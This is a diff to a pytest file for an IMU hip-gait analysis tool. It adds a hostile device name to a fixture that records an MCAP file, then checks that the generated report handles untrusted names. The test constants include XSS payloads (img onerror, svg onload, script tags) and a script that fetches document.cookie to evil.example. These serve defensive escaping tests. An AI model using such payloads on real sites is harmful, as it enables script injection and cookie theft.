@@ -12,7 +12,7 @@ import numpy as np
 import pytest
 
 from imu_hip.cli import main
-from imu_hip.io import write_mcap
+from imu_hip.io import McapRecorder, write_mcap
 from imu_hip.model import ImuHipError, Recording, SensorRecording
 from imu_hip.pipeline import analyze
 from imu_hip.report import collect_run, load_run, run_report_html
@@ -26,6 +26,7 @@ from imu_hip.report.flags import (
 from imu_hip.sim import demo_params, simulate
 
 HOSTILE_NAME = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
+HOSTILE_DEVICE = "Polar H10 <img src=x onerror=alert(5)>\x1b[31m"
 HOSTILE_META = {
     "note": "<script>fetch('http://evil.example/'+document.cookie)</script>",
     "device_name": '"><svg onload=alert(3)>',
@@ -87,8 +88,15 @@ def sacral_recording():
 
 @pytest.fixture(scope="module")
 def sacral_file(sacral_recording, tmp_path_factory):
+    """A live-style recording: a raw device channel whose advertised name is hostile."""
     path = tmp_path_factory.mktemp("rep") / "run.mcap"
-    write_mcap(sacral_recording, path)
+    s = sacral_recording.sensors[0]
+    with McapRecorder(path, metadata=sacral_recording.metadata, fsync=False) as rec:
+        rec.add_device("dev-1", {"name": HOSTILE_DEVICE, "protocol": "imu-hip"})
+        rec.write_raw("dev-1", 0.0, b"\x00\x01")
+        rec.add_sensor(s.sensor_id, s.placement, s.rate_hz, s.has_gyro, s.metadata)
+        for block in s.blocks(4096):
+            rec.write_block(block)
     return path
 
 
@@ -138,6 +146,7 @@ def test_sacral_report_cli_parses_has_plots_and_escapes(sacral_file, tmp_path, c
     assert HOSTILE_NAME in text
     assert HOSTILE_META["note"] in text and HOSTILE_META["device_name"] in text
     assert "<b>1.0</b>" in text
+    assert "Polar H10 <img src=x onerror=alert(5)>" in text  # the device's advertised name
     for section in ("What this may mean for your hip", "Metrics over the run", "Distributions",
                     "Per window", "Drift from start to end", "Data quality", "Left and right"):
         assert section in text
